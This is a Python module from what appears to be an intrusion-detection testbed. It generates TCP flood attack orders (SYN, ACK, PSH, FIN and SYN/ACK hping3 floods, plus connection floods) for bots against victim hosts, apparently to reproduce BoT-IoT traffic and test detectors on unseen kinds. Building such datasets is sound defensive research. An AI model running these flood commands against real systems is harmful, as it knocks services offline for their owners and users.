"""TCP floods, by hping3 and by full connections. BoT-IoT's is `syn_data`, with 100 bytes."""

from testbed.network import python_module
from testbed.orders import WEB_VICTIMS, Draw, Kind, Order

SUBCATEGORIES = {"DoS_TCP": (1, 1), "DDoS_TCP": (2, 4)}  # fewest and most bots
PORTS = (80, 80, 443, 22, 1883, 21, 81, 8081)  # the last two are closed everywhere


def _hping3(draw: Draw, *flags: str, data: bool = False, keep: bool = False) -> list[Order]:
    """Flood one port; what hping3 leaves to its user is drawn, its defaults are among it."""
    rng = draw.rng
    victim, port, count = draw.victim(), rng.choice(PORTS), draw.each()
    options = [*flags, "-p", f"{port}", "-i", f"u{draw.pause_us()}", "-c", f"{count}"]
    if data:
        options += ["-d", f"{rng.choice((1, 6, 32, 64, 100, 120, 256, 512, 900, 1200, 1400))}"]
    if window := rng.choice((None, None, 1024, 5840, 8192, 16384, 29200, 64240, 65535)):
        options += ["-w", f"{window}"]
    if ttl := rng.choice((None, None, 60, 128, 255)):
        options += ["-t", f"{ttl}"]
    if keep:
        options += ["-k"]
    return [
        Order(
            bot,
            ["hping3", "-q", "-n", *options, "-s", f"{draw.first_port(count, data)}",
             victim.address],
        )
        for bot in draw.bots
    ]  # fmt: skip


def syn(draw: Draw) -> list[Order]:
    """SYN without data."""
    return _hping3(draw, "-S")


def syn_data(draw: Draw) -> list[Order]:
    """SYN with data, source ports one after another, as in BoT-IoT."""
    return _hping3(draw, "-S", data=True)


def ack(draw: Draw) -> list[Order]:
    """ACK of no connection, with or without data."""
    return _hping3(draw, "-A", data=draw.rng.random() < 0.5)


def push(draw: Draw) -> list[Order]:
    """PSH and ACK with data, from one port, as if a connection were there."""
    return _hping3(draw, "-P", "-A", data=True, keep=draw.rng.random() < 0.5)


def connect(draw: Draw) -> list[Order]:
    """Whole connections, opened and closed as fast as the victim accepts them, some with data."""
    rng = draw.rng
    victim, port = draw.victim(WEB_VICTIMS), rng.choice((80, 443))
    connections = max(2, draw.each() // 4)
    return [
        Order(
            bot,
            python_module("tools.connections", victim.address, f"{port}", f"{connections}",
                          f"{4 * draw.pause_us() / 1e6:.5f}", f"{rng.choice((0, 0, 20, 200))}",
                          f"{rng.randrange(10**6)}"),
        )
        for bot in draw.bots
    ]  # fmt: skip


def fin(draw: Draw) -> list[Order]:
    """FIN, PSH and URG at once."""
    return _hping3(draw, "-F", "-P", "-U", data=draw.rng.random() < 0.5)


def syn_ack(draw: Draw) -> list[Order]:
    """SYN and ACK, as reflectors send it."""
    return _hping3(draw, "-S", "-A")


KINDS: dict[str, Kind] = {
    "syn": syn, "syn_data": syn_data, "ack": ack, "push": push, "connect": connect,
}  # fmt: skip
NOVEL: dict[str, Kind] = {"fin": fin, "syn_ack": syn_ack}
